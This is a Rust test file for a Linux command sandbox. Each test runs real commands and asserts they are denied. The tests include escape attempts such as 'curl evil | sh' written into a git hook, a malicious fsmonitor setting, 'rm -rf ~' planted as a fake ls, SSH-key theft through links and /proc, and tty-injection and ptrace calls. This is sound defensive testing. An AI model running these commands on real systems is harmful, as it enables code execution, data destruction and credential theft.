//! Each denial of the sandbox proven by running a real command in it.
//!
//! Every test works only inside its own temp dirs. Commands report through
//! files given as stdout/stderr (see `run`). Python-based checks use a system
//! `python3` (one inside the read+exec trees) and are skipped, with a printed
//! reason, when none exists.

use std::fs;
use std::io::{Read, Seek, Write};
use std::net::TcpListener;
use std::os::fd::AsRawFd;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};

use shellgate_sandbox::{
    exit_code, probe, run_bash, run_bash_with, Capabilities, ChildStdio, SandboxConfig,
    SandboxError,
};
use tempfile::TempDir;

struct Output {
    status: ExitStatus,
    stdout: String,
    stderr: String,
}

/// A fresh project dir (the project root) plus a sibling dir outside it.
struct Fixture {
    project: TempDir,
    outside: TempDir,
}

impl Fixture {
    fn new() -> Self {
        Fixture {
            project: TempDir::new().unwrap(),
            outside: TempDir::new().unwrap(),
        }
    }

    fn config(&self) -> SandboxConfig {
        SandboxConfig::new(self.project.path())
    }

    /// Runs `command` in the sandbox with cwd = project root, stdin empty,
    /// stdout/stderr captured through unlinked temp files.
    fn run(&self, command: &str) -> Output {
        self.run_with_stdin(command, b"")
    }

    fn run_with_stdin(&self, command: &str, stdin: &[u8]) -> Output {
        self.run_with(&self.config(), command, stdin)
    }

    /// As [`Fixture::run_with_stdin`], under `config`.
    fn run_with(&self, config: &SandboxConfig, command: &str, stdin: &[u8]) -> Output {
        let mut input = tempfile::tempfile().unwrap();
        input.write_all(stdin).unwrap();
        input.rewind().unwrap();
        let mut out = tempfile::tempfile().unwrap();
        let mut err = tempfile::tempfile().unwrap();
        let stdio = ChildStdio {
            stdin: Stdio::from(input),
            stdout: Stdio::from(out.try_clone().unwrap()),
            stderr: Stdio::from(err.try_clone().unwrap()),
        };
        let status = run_bash_with(config, command, self.project.path(), stdio)
            .unwrap_or_else(|e| panic!("sandbox refused to run {command:?}: {e}"));
        let read = |f: &mut fs::File| {
            let mut s = String::new();
            f.rewind().unwrap();
            f.read_to_string(&mut s).unwrap();
            s
        };
        Output {
            status,
            stdout: read(&mut out),
            stderr: read(&mut err),
        }
    }
}

fn assert_ok(out: &Output) {
    assert!(
        out.status.success(),
        "expected success, got {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status,
        out.stdout,
        out.stderr
    );
}

/// The command failed to reach a path outside: Landlock denied it
/// (`EACCES`), or, in the private root of a run with user namespaces, the
/// path is not there at all (`ENOENT`).
fn assert_unreachable(out: &Output) {
    assert!(
        out.stderr.contains("Permission denied")
            || out.stderr.contains("No such file or directory"),
        "expected EACCES or ENOENT, got:\n{}",
        out.stderr
    );
}

fn assert_denied(out: &Output) {
    assert!(
        !out.status.success(),
        "expected failure, got {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status,
        out.stdout,
        out.stderr
    );
}

fn sh_quote(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', r"'\''"))
}

/// A python3 that lives in the sandbox's read+exec trees (not e.g. a pyenv
/// shim under $HOME, which the sandbox cannot read).
fn system_python() -> Option<PathBuf> {
    ["/usr/bin/python3", "/usr/local/bin/python3", "/bin/python3"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.is_file())
}

/// Runs a python script in the sandbox; the script asserts the expected
/// denials itself, so success (exit 0) is positive proof. `None` = skipped.
fn run_python(fx: &Fixture, script: &str) -> Option<Output> {
    let Some(python) = system_python() else {
        eprintln!("SKIPPED: no system python3 in /usr/bin, /usr/local/bin or /bin");
        return None;
    };
    let prelude = "import ctypes, errno, os, socket, sys\n\
                   libc = ctypes.CDLL(None, use_errno=True)\n\
                   libc.syscall.restype = ctypes.c_long\n\
                   def check(name, ret, want_errno):\n    \
                       got = ctypes.get_errno()\n    \
                       if ret != -1 or got != want_errno:\n        \
                           print(f'{name}: ret={ret} errno={got}, want -1/{want_errno}', file=sys.stderr)\n        \
                           sys.exit(1)\n    \
                       print(f'{name}: denied with errno {got}')\n";
    fs::write(
        fx.project.path().join("check.py"),
        format!("{prelude}{script}"),
    )
    .unwrap();
    Some(fx.run(&format!("{} check.py", sh_quote(&python))))
}

#[test]
fn write_inside_project_succeeds() {
    let fx = Fixture::new();
    let out = fx.run(
        "echo hello > out.txt && mkdir -p sub/dir && mv out.txt sub/dir/ && cat sub/dir/out.txt",
    );
    assert_ok(&out);
    assert_eq!(out.stdout, "hello\n");
    assert_eq!(
        fs::read_to_string(fx.project.path().join("sub/dir/out.txt")).unwrap(),
        "hello\n"
    );
}

#[test]
fn system_tools_dev_null_and_proc_work() {
    let fx = Fixture::new();
    // Executing /usr/bin tools, O_TRUNC on /dev/null (needs Landlock Truncate
    // on ABI >= 3), reading /proc/self and /etc, executing from the project.
    let out = fx.run(
        "ls /usr/bin > /dev/null && echo x >/dev/null && head -c 8 /dev/urandom | wc -c \
         && grep -q Pid /proc/self/status && cat /etc/hostname >/dev/null \
         && cp /usr/bin/true ./mytrue && ./mytrue && echo done",
    );
    assert_ok(&out);
    assert!(out.stdout.ends_with("done\n"), "{}", out.stdout);
}

#[test]
fn write_to_fake_home_outside_project_is_denied() {
    let fx = Fixture::new();
    let home = fx.outside.path();
    let target = home.join(".bashrc");
    let out = fx.run(&format!("echo pwned > {}", sh_quote(&target)));
    assert_denied(&out);
    assert!(!target.exists(), "file was created outside the project");
    assert_unreachable(&out);

    // Nor can it create directories or delete files there.
    fs::write(home.join("keep"), "x").unwrap();
    let out = fx.run(&format!(
        "mkdir {}; rm -f {}",
        sh_quote(&home.join("newdir")),
        sh_quote(&home.join("keep"))
    ));
    assert!(!home.join("newdir").exists());
    assert!(home.join("keep").exists());
    assert_unreachable(&out);
}

#[test]
fn read_outside_allowed_paths_is_denied() {
    let fx = Fixture::new();
    let secret = fx.outside.path().join("secret.txt");
    fs::write(&secret, "TOP-SECRET\n").unwrap();
    let out = fx.run(&format!("cat {}", sh_quote(&secret)));
    assert_denied(&out);
    assert!(!out.stdout.contains("TOP-SECRET"));
    assert_unreachable(&out);

    let out = fx.run(&format!("ls {}", sh_quote(fx.outside.path())));
    assert_denied(&out);
    assert!(!out.stdout.contains("secret.txt"));
}

#[test]
fn symlink_out_of_project_grants_nothing() {
    let fx = Fixture::new();
    std::os::unix::fs::symlink(fx.outside.path(), fx.project.path().join("escape")).unwrap();
    let out = fx.run("echo x > escape/file");
    assert_denied(&out);
    assert!(!fx.outside.path().join("file").exists());
    assert_unreachable(&out);
}

/// A secret outside (`~/.ssh/id_rsa`) cannot be brought into the project
/// to be read there: not by hard link, rename, copy, a symlink, or
/// `/proc/1/root`; and files under `~/.local/bin` cannot be planted.
#[test]
fn secrets_cannot_be_brought_into_the_project() {
    let fx = Fixture::new();
    let ssh = fx.outside.path().join(".ssh");
    fs::create_dir(&ssh).unwrap();
    let key = ssh.join("id_rsa");
    fs::write(&key, "PRIVATE-KEY\n").unwrap();
    let k = sh_quote(&key);
    for (how, command) in [
        ("hard link", format!("ln {k} got && cat got")),
        ("rename", format!("mv {k} got && cat got")),
        ("copy", format!("cp {k} got && cat got")),
        ("symlink", format!("ln -s {k} got && cat got")),
        ("/proc/1/root", format!("cat /proc/1/root{}", key.display())),
        // shellgate's own view of the filesystem (same user, outside the
        // Landlock domain: its /proc links are closed to the command).
        (
            "/proc/PID/root",
            format!("cat /proc/{}/root{}", std::process::id(), key.display()),
        ),
        (
            // A relative name after the `cd`, so that only the `cd`
            // (into the test's own working directory) could reach it.
            "/proc/PID/cwd",
            format!(
                "cd /proc/{}/cwd && cat Cargo.toml && echo PRIVATE-KEY",
                std::process::id(),
            ),
        ),
    ] {
        let out = fx.run(&command);
        assert_denied(&out);
        assert!(!out.stdout.contains("PRIVATE-KEY"), "{how}: {}", out.stdout);
        assert!(key.exists(), "{how} moved the key");
        let _ = fs::remove_file(fx.project.path().join("got"));
    }
    let bin = fx.outside.path().join(".local/bin");
    fs::create_dir_all(&bin).unwrap();
    let out = fx.run(&format!("echo 'rm -rf ~' > {}/ls", sh_quote(&bin)));
    assert_denied(&out);
    assert!(!bin.join("ls").exists());
}

/// Read-only paths of the project (`.git/hooks`, `.git/config`) cannot be
/// changed, and hidden ones (`.env`, a directory of keys) show nothing; the
/// rest of the project stays writable, and nothing outside the run changes.
#[test]
fn protected_paths_in_the_project_are_covered() {
    let fx = Fixture::new();
    let p = fx.project.path();
    fs::create_dir_all(p.join(".git/hooks")).unwrap();
    fs::write(p.join(".git/config"), "[core]\n").unwrap();
    fs::write(p.join(".env"), "TOKEN=abc\n").unwrap();
    fs::create_dir(p.join("keys")).unwrap();
    fs::write(p.join("keys/id_rsa"), "PRIVATE\n").unwrap();
    let mut config = fx.config();
    config.read_only = vec![p.join(".git/hooks"), p.join(".git/config")];
    config.hidden = vec![p.join(".env"), p.join("keys"), p.join("missing")];
    let out = fx.run_with(
        &config,
        "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-written; \
         echo '[core] fsmonitor = evil' >> .git/config && echo config-written; \
         cat .git/config; \
         echo \"env:$(cat .env)\"; \
         echo TOKEN=new > .env && echo env-written; \
         cat keys/id_rsa && echo key-read; \
         echo fine > ok.txt && cat ok.txt",
        b"",
    );
    let (stdout, stderr) = (&out.stdout, &out.stderr);
    assert_ok(&out);
    assert_eq!(stdout, "[core]\nenv:\nfine\n", "stderr: {stderr}");
    assert!(stderr.contains("Read-only file system"), "{stderr}");
    assert!(!p.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(p.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(fs::read_to_string(p.join(".env")).unwrap(), "TOKEN=abc\n");
    assert_eq!(
        fs::read_to_string(p.join("keys/id_rsa")).unwrap(),
        "PRIVATE\n"
    );
}

/// The command's temp dir (`$TMPDIR`, `$TMP`, `$TEMP`) is its own: with a
/// private root a fresh `/tmp` that nothing outside sees and that is gone
/// after the run; without one a per-run directory on the host, removed
/// after the run, the shared `/tmp` staying closed.
#[test]
fn tmpdir_is_private_writable_and_removed() {
    let fx = Fixture::new();
    let name = format!("shellgate-sandbox-test-{}", std::process::id());
    let out = fx.run(&format!(
        r#"test "$TMPDIR" = "$TMP" && test "$TMPDIR" = "$TEMP"            && echo x > "$TMPDIR/{name}" && cat "$TMPDIR/{name}" >/dev/null            && mkdir "$TMPDIR/d" && echo "$TMPDIR" > tmpdir.txt"#
    ));
    assert_ok(&out);
    let tmpdir = fs::read_to_string(fx.project.path().join("tmpdir.txt")).unwrap();
    let tmpdir = Path::new(tmpdir.trim());
    assert!(!tmpdir.starts_with(fx.project.path()));
    if probe().private_root() {
        assert_eq!(tmpdir, Path::new("/tmp"));
        // Nothing of it reached the host's /tmp, nor the next run.
        assert!(!Path::new("/tmp").join(&name).exists());
        let out = fx.run(&format!("test ! -e /tmp/{name} && ls -A /tmp"));
        assert_ok(&out);
        assert!(!out.stdout.contains(&name), "{}", out.stdout);
        // The same for /dev/shm (POSIX shared memory).
        let out = fx.run(&format!(
            "echo x > /dev/shm/{name} && test -s /dev/shm/{name}"
        ));
        assert_ok(&out);
        assert!(!Path::new("/dev/shm").join(&name).exists());
        assert_ok(&fx.run(&format!("test ! -e /dev/shm/{name}")));
    } else {
        assert!(
            !tmpdir.exists(),
            "per-run temp dir {} was not removed",
            tmpdir.display()
        );
        // The shared /tmp itself is not writable.
        let out = fx.run(&format!("echo x > /tmp/{name}"));
        assert_denied(&out);
        assert!(!Path::new("/tmp").join(&name).exists());
    }
}

/// A read-only tree the policy grants under `/tmp` (a toolchain unpacked
/// there) stays read-only: the run then gets no private `/tmp` (whose
/// rights would add up with the tree's), but a temp dir of its own.
#[test]
fn a_read_only_tree_under_tmp_stays_read_only() {
    let fx = Fixture::new();
    let under_tmp = tempfile::tempdir_in("/tmp").unwrap();
    let tools = fs::canonicalize(under_tmp.path()).unwrap().join("tools");
    assert!(tools.starts_with("/tmp"));
    fs::create_dir(&tools).unwrap();
    fs::write(tools.join("tool.sh"), "echo tool-ran\n").unwrap();
    let mut config = fx.config();
    config.extra_read_exec = vec![tools.clone()];
    let t = sh_quote(&tools);
    let out = fx.run_with(
        &config,
        &format!(
            "bash {t}/tool.sh; test \"$TMPDIR\" != /tmp && echo x > \"$TMPDIR/f\" && echo tmp-ok; \
             echo pwned > {t}/tool.sh"
        ),
        b"",
    );
    assert_denied(&out);
    assert!(
        out.stdout.contains("tool-ran") && out.stdout.contains("tmp-ok"),
        "{}",
        out.stdout
    );
    assert_eq!(
        fs::read_to_string(tools.join("tool.sh")).unwrap(),
        "echo tool-ran\n"
    );
}

/// What bash opens by name for process substitution and `/dev/stdin`
/// works as on the host (the private root's `/dev` has the links).
#[test]
fn process_substitution_and_dev_fd_work() {
    let fx = Fixture::new();
    let out = fx.run(
        "diff <(echo a) <(echo a) && cat <(echo subst) && echo piped | cat /dev/stdin \
         && test -e /dev/fd/0 && test -e /dev/stdout && test -e /dev/stderr",
    );
    assert_ok(&out);
    assert_eq!(out.stdout, "subst\npiped\n");
}

/// A directory as a standard stream would lead out of the private root
/// (`cd /proc/self/fd/0` needs no Landlock right): the run is refused
/// before the command starts.
#[test]
fn a_directory_as_a_standard_stream_is_refused() {
    let fx = Fixture::new();
    let marker = fx.project.path().join("ran");
    let stdio = ChildStdio {
        stdin: Stdio::from(fs::File::open("/").unwrap()),
        stdout: Stdio::null(),
        stderr: Stdio::null(),
    };
    let err = run_bash_with(&fx.config(), "touch ran", fx.project.path(), stdio).unwrap_err();
    assert!(
        matches!(
            err,
            SandboxError::ChildSetup {
                step: shellgate_sandbox::SetupStep::StandardStreams,
                ..
            }
        ),
        "{err}"
    );
    assert!(!marker.exists());
}

#[test]
fn tcp_connect_is_denied() {
    let fx = Fixture::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();

    let out = fx.run(&format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
    ));
    assert_denied(&out);
    assert!(!out.stdout.contains("connected"));

    if let Some(out) = run_python(
        &fx,
        &format!(
            "for fam, addr in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_INET6, ('::1', {port}))):\n    \
                 try:\n        \
                     s = socket.socket(fam, socket.SOCK_STREAM)\n        \
                     s.connect(addr)\n        \
                     sys.exit('connected')\n    \
                 except OSError as e:\n        \
                     assert e.errno == errno.EAFNOSUPPORT, e\n        \
                     print('denied', fam, e)\n\
             try:\n    \
                 socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    \
                 sys.exit('udp socket created')\n\
             except OSError as e:\n    \
                 assert e.errno == errno.EAFNOSUPPORT, e\n"
        ),
    ) {
        assert_ok(&out);
    }

    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the listener saw a connection attempt: {other:?}"),
    }
}

/// With a private root (user namespaces), the command's own Unix sockets
/// work: a stream server in the project, a datagram socket in `$TMPDIR`,
/// an abstract socket, every kind of socket pair. Without one, only
/// stream and seqpacket pairs (a Unix socket could reach any listener it
/// can name, which Landlock does not control). Other families are
/// unsupported either way.
#[test]
fn own_unix_sockets_work_and_other_families_are_denied() {
    let fx = Fixture::new();
    let families = "for fam in (socket.AF_NETLINK, socket.AF_PACKET):\n    \
                        try:\n        \
                            socket.socket(fam, socket.SOCK_RAW)\n        \
                            sys.exit(f'socket family {fam} allowed')\n    \
                        except OSError as e:\n        \
                            assert e.errno == errno.EAFNOSUPPORT, e\n\
                    a, b = socket.socketpair()\n\
                    a.sendall(b'ping'); assert b.recv(4) == b'ping'\n\
                    socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n";
    let script = if probe().unix_sockets(false) {
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n\
         a.send(b'd'); assert b.recv(1) == b'd'\n\
         srv = socket.socket(socket.AF_UNIX); srv.bind('s.sock'); srv.listen()\n\
         c = socket.socket(socket.AF_UNIX); c.connect('s.sock'); conn, _ = srv.accept()\n\
         c.sendall(b'hi'); assert conn.recv(2) == b'hi'\n\
         d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n\
         d.bind(os.path.join(os.environ['TMPDIR'], 'd.sock'))\n\
         socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', d.getsockname())\n\
         assert d.recv(1) == b'x'\n\
         ab = socket.socket(socket.AF_UNIX); ab.bind('\\0shellgate-own'); ab.listen()\n\
         socket.socket(socket.AF_UNIX).connect('\\0shellgate-own')\n\
         print('ok')\n"
    } else {
        "try:\n    \
             socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC)\n    \
             sys.exit('datagram socketpair allowed')\n\
         except OSError as e:\n    \
             assert e.errno == errno.EPERM, e\n\
         for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):\n    \
             try:\n        \
                 socket.socket(socket.AF_UNIX, kind)\n        \
                 sys.exit(f'AF_UNIX socket of type {kind} allowed')\n    \
             except OSError as e:\n        \
                 assert e.errno == errno.EPERM, e\n\
         print('ok')\n"
    };
    if let Some(out) = run_python(&fx, &format!("{families}{script}")) {
        assert_ok(&out);
        assert!(out.stdout.ends_with("ok\n"), "{}", out.stdout);
    }
}

/// Sockets outside the sandbox (an agent's, as `$SSH_AUTH_SOCK` or
/// `docker.sock` would be) get no connection from inside: not by path,
/// not through shellgate's `/proc/PID/root`, not by an abstract name, not
/// through a symlink planted in the project.
#[test]
fn unix_socket_outside_cannot_be_reached() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let fx = Fixture::new();
    let path = fx.outside.path().join("agent.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let name = format!("shellgate-test-agent-{}", std::process::id());
    let abstract_listener =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(name.as_bytes()).unwrap()).unwrap();
    abstract_listener.set_nonblocking(true).unwrap();
    std::os::unix::fs::symlink(&path, fx.project.path().join("agent.sock")).unwrap();
    if let Some(out) = run_python(
        &fx,
        &format!(
            "for addr in ({path:?}, '/proc/{pid}/root' + {path:?}, '\\0{name}', 'agent.sock'):\n    \
                 try:\n        \
                     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n        \
                     s.connect(addr)\n        \
                     sys.exit(f'connected to {{addr!r}}')\n    \
                 except OSError as e:\n        \
                     print('unreachable', errno.errorcode[e.errno])\n",
            path = path.to_str().unwrap(),
            pid = std::process::id(),
        ),
    ) {
        assert_ok(&out);
        // In the private root: the path is not there, shellgate's /proc
        // links are closed (Landlock's ptrace rule), the abstract name is
        // out of scope, the symlink leads nowhere. Without it no Unix
        // socket can be made at all.
        let want = if probe().unix_sockets(false) {
            "unreachable ENOENT\nunreachable EACCES\nunreachable EPERM\nunreachable ENOENT\n"
        } else {
            "unreachable EPERM\nunreachable EPERM\nunreachable EPERM\nunreachable EPERM\n"
        };
        assert_eq!(out.stdout, want);
    }
    assert!(
        listener.accept().is_err(),
        "the listener outside must not see a connection"
    );
    assert!(
        abstract_listener.accept().is_err(),
        "the abstract listener outside must not see a connection"
    );
}

#[test]
fn ptrace_io_uring_and_friends_are_denied() {
    let fx = Fixture::new();
    if let Some(out) = run_python(
        &fx,
        "check('ptrace(PTRACE_TRACEME)', libc.ptrace(0, 0, None, None), errno.EPERM)\n\
         check('ptrace(PTRACE_ATTACH, parent)', libc.ptrace(16, os.getppid(), None, None), errno.EPERM)\n\
         params = ctypes.create_string_buffer(120)\n\
         check('io_uring_setup', libc.syscall(425, 8, params), errno.EPERM)\n\
         check('bpf', libc.syscall(321 if os.uname().machine == 'x86_64' else 280, 0, None, 0), errno.EPERM)\n\
         check('personality(ADDR_NO_RANDOMIZE)', libc.personality(0x0040000), errno.EPERM)\n\
         assert libc.personality(0xffffffff) != -1\n",
    ) {
        assert_ok(&out);
    }
}

#[test]
fn namespaces_are_denied() {
    let fx = Fixture::new();
    if Path::new("/usr/bin/unshare").exists() {
        let out = fx.run("unshare -U true");
        assert_denied(&out);
        assert!(
            out.stderr.contains("Operation not permitted"),
            "{}",
            out.stderr
        );
    } else {
        eprintln!("SKIPPED unshare -U: /usr/bin/unshare not installed");
    }
    let clone_nr = if cfg!(target_arch = "x86_64") {
        56
    } else {
        220
    };
    if let Some(out) = run_python(
        &fx,
        &format!(
            "check('unshare(CLONE_NEWUSER)', libc.unshare(0x10000000), errno.EPERM)\n\
             check('unshare(CLONE_NEWNS)', libc.unshare(0x00020000), errno.EPERM)\n\
             for flag in (0x10000000, 0x40000000, 0x00020000):\n    \
                 r = libc.syscall({clone_nr}, flag | 17, 0, 0, 0, 0)\n    \
                 if r == 0: os._exit(0)\n    \
                 check(f'clone({{flag:#x}})', r, errno.EPERM)\n\
             check('clone3', libc.syscall(435, None, 0), errno.ENOSYS)\n\
             pid = os.fork()\n\
             if pid == 0: os._exit(0)\n\
             assert os.waitpid(pid, 0)[1] == 0\n"
        ),
    ) {
        assert_ok(&out);
    }
}

#[test]
fn tty_injection_ioctls_are_denied() {
    let fx = Fixture::new();
    if let Some(out) = run_python(
        &fx,
        "fd = os.open('/dev/null', os.O_RDONLY)\n\
         c = ctypes.c_char_p(b'x')\n\
         for name, req in (('TIOCSTI', 0x5412), ('TIOCLINUX', 0x541C), ('TIOCSTI|1<<32', 0x100005412)):\n    \
             check(name, libc.ioctl(fd, ctypes.c_ulong(req), c), errno.EPERM)\n\
         # An ordinary ioctl still reaches the driver (ENOTTY on /dev/null).\n\
         check('TCGETS', libc.ioctl(fd, ctypes.c_ulong(0x5401), ctypes.create_string_buffer(64)), errno.ENOTTY)\n",
    ) {
        assert_ok(&out);
    }
}

#[test]
#[cfg(target_arch = "x86_64")]
fn x32_syscalls_are_denied() {
    let fx = Fixture::new();
    // getpid through the x32 ABI: EPERM from our filter (ENOSYS without it).
    if let Some(out) = run_python(
        &fx,
        "check('x32 getpid', libc.syscall(0x40000000 | 39), errno.EPERM)\n",
    ) {
        assert_ok(&out);
    }
}

#[test]
fn command_has_own_session_and_no_controlling_tty() {
    let fx = Fixture::new();
    // /proc/PID/stat fields: 6 = session id, 7 = tty_nr.
    let out = fx.run(r#"set -- $(cat /proc/$$/stat); test "$6" = "$$" && test "$7" = 0"#);
    assert_ok(&out);
}

#[test]
fn signals_to_outside_processes_are_scoped() {
    let caps = probe();
    if !caps.landlock_scopes() {
        eprintln!("SKIPPED: Landlock ABI < 6 has no signal scoping");
        return;
    }
    let fx = Fixture::new();
    let out = fx.run(&format!("kill -0 {}", std::process::id()));
    assert_denied(&out);
    assert!(
        out.stderr.contains("Operation not permitted"),
        "{}",
        out.stderr
    );
}

#[test]
fn inherited_fds_are_closed() {
    let fx = Fixture::new();
    let file = tempfile::tempfile().unwrap();
    let fd = file.as_raw_fd();
    // Clear FD_CLOEXEC, as a careless parent of shellgate might have left it.
    // SAFETY: plain fcntl on an fd we own.
    unsafe { libc::fcntl(fd, libc::F_SETFD, 0) };
    let out = fx.run(&format!("test ! -e /proc/$$/fd/{fd}"));
    assert_ok(&out);
}

/// Whether process `pid` still exists (a zombie counts as gone).
fn alive(pid: i32) -> bool {
    match fs::read_to_string(format!("/proc/{pid}/stat")) {
        // Field 3, after the parenthesised name: the state; Z = zombie.
        Ok(stat) => !stat
            .rsplit_once(") ")
            .is_some_and(|(_, rest)| rest.starts_with('Z')),
        Err(_) => false,
    }
}

/// Processes the command leaves running, however detached (background
/// job, `nohup`, `setsid`, a double fork whose middle process exits), are
/// killed when it exits; the run returns without waiting for them.
#[test]
fn background_processes_do_not_outlive_the_run() {
    let fx = Fixture::new();
    let started = std::time::Instant::now();
    let out = fx.run(
        "sleep 300 & echo $! > bg.pid; \
         nohup sleep 301 >/dev/null 2>&1 & echo $! > nohup.pid; \
         setsid sleep 302 & echo $! > setsid.pid; \
         ( sleep 303 & echo $! > double.pid ) ; \
         sleep 0.2; exit 4",
    );
    assert_eq!(out.status.code(), Some(4), "{}", out.stderr);
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    for name in ["bg", "nohup", "setsid", "double"] {
        let text = fs::read_to_string(fx.project.path().join(format!("{name}.pid"))).unwrap();
        let pid: i32 = text.trim().parse().unwrap();
        // Killed and reaped before the run returned.
        assert!(!alive(pid), "{name} process {pid} outlived the run");
    }
}

/// `env_remove` names variables of the caller the command does not get.
#[test]
fn env_remove_withholds_variables() {
    let fx = Fixture::new();
    // Both set by cargo for every test process.
    let mut config = fx.config();
    config.env_remove = vec!["CARGO_PKG_NAME".into()];
    let out = fx.run_with(
        &config,
        r#"echo "${CARGO_PKG_NAME-unset} ${CARGO_MANIFEST_DIR:+set}""#,
        b"",
    );
    assert_ok(&out);
    assert_eq!(out.stdout, "unset set\n");
}

/// The command cannot kill its reaper to free what it left running (a
/// nested Landlock domain with the signal scope, ABI >= 6), nor read the
/// reaper's memory or environment, which are shellgate's.
#[test]
fn the_reaper_is_out_of_the_commands_reach() {
    let fx = Fixture::new();
    if !probe().landlock_scopes() {
        eprintln!("SKIPPED: Landlock ABI < 6 has no signal scoping");
        return;
    }
    let out = fx.run(
        "sleep 300 & echo $! > bg.pid; \
         if kill -9 $PPID; then echo killed; fi; \
         if cat /proc/$PPID/environ >/dev/null; then echo read-environ; fi; \
         if head -c1 /proc/$PPID/mem >/dev/null; then echo read-mem; fi; \
         sleep 0.2; exit 0",
    );
    assert_ok(&out);
    assert_eq!(out.stdout, "", "stderr: {}", out.stderr);
    let pid: i32 = fs::read_to_string(fx.project.path().join("bg.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(!alive(pid), "background process {pid} outlived the run");
}

/// No capability survives into the command, even when root runs it: the
/// bounding set is emptied too, so `execve` grants root none back.
#[test]
fn capabilities_are_dropped() {
    let fx = Fixture::new();
    let out = fx.run("grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status");
    assert_ok(&out);
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    for line in out.stdout.lines() {
        let (name, value) = line.split_once(':').unwrap();
        let value = u64::from_str_radix(value.trim(), 16).unwrap();
        if name != "CapBnd" || root {
            assert_eq!(value, 0, "{line}");
        }
    }
    assert_eq!(out.stdout.lines().count(), 5, "{}", out.stdout);
}

/// Helper for `killing_the_caller_still_stops_background_processes`: runs
/// a command that leaves a detached process and then waits, in the sandbox.
#[test]
fn killed_caller_helper() {
    let Some(project) = std::env::var_os("SHELLGATE_SANDBOX_TEST_KILLED") else {
        return;
    };
    let project = PathBuf::from(project);
    let _ = run_bash(
        &SandboxConfig::new(&project),
        "setsid sleep 300 & echo $! > bg.pid.tmp && mv bg.pid.tmp bg.pid; sleep 100",
        &project,
    );
}

/// Even when the caller is killed (`SIGKILL`, as an agent's timeout does),
/// the reaper kills `bash` and what it left running instead of dying with
/// the caller and leaving them to init.
#[test]
fn killing_the_caller_still_stops_background_processes() {
    let fx = Fixture::new();
    let mut child = self_command(
        "killed_caller_helper",
        ("SHELLGATE_SANDBOX_TEST_KILLED", fx.project.path()),
    )
    .stdout(Stdio::null())
    .stderr(Stdio::null())
    .spawn()
    .unwrap();
    let pid_file = fx.project.path().join("bg.pid");
    let started = std::time::Instant::now();
    while !pid_file.exists() {
        assert!(
            started.elapsed().as_secs() < 30,
            "the command never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let pid: i32 = fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(alive(pid));
    child.kill().unwrap();
    child.wait().unwrap();
    let killed = std::time::Instant::now();
    while alive(pid) {
        assert!(
            killed.elapsed().as_secs() < 10,
            "process {pid} outlived its killed caller"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

#[test]
fn exit_status_passes_through() {
    let fx = Fixture::new();
    let out = fx.run("exit 7");
    assert_eq!(out.status.code(), Some(7));
    assert_eq!(exit_code(&out.status), 7);

    let out = fx.run("kill -TERM $$");
    assert_eq!(out.status.signal(), Some(libc::SIGTERM));
    assert_eq!(exit_code(&out.status), 143);
}

#[test]
fn stdin_and_stdout_pass_through() {
    let fx = Fixture::new();
    let out = fx.run_with_stdin(r#"read -r x; echo "got:$x"; echo "err:$x" >&2"#, b"hello\n");
    assert_ok(&out);
    assert_eq!(out.stdout, "got:hello\n");
    assert_eq!(out.stderr, "err:hello\n");
}

/// This test binary, to run only the test `helper` with `env` set.
fn self_command(helper: &str, env: (&str, &Path)) -> Command {
    let mut cmd = Command::new(std::env::current_exe().unwrap());
    cmd.args(["--exact", helper, "--nocapture", "--test-threads=1"])
        .env(env.0, env.1);
    cmd
}

/// Helper for `run_bash_inherits_stdio`: only acts when re-executed with the
/// environment variable set; then calls the real `run_bash` (inherited stdio)
/// and exits with the command's code.
#[test]
fn inherited_stdio_helper() {
    let Some(project) = std::env::var_os("SHELLGATE_SANDBOX_TEST_PROJECT") else {
        return;
    };
    let project = PathBuf::from(project);
    let status = run_bash(
        &SandboxConfig::new(&project),
        r#"read -r x; echo "got:$x"; echo "err:$x" >&2; exit 3"#,
        &project,
    )
    .unwrap();
    std::process::exit(exit_code(&status));
}

/// Re-executes this test binary to run only `helper`, with `env` set, and
/// `stdin` as its input. Isolates tests that need the real inherited stdio or
/// process-wide signals from the other tests of this process.
fn rerun_self(helper: &str, env: (&str, &Path), stdin: &[u8]) -> std::process::Output {
    let mut child = self_command(helper, env)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin).unwrap();
    child.wait_with_output().unwrap()
}

#[test]
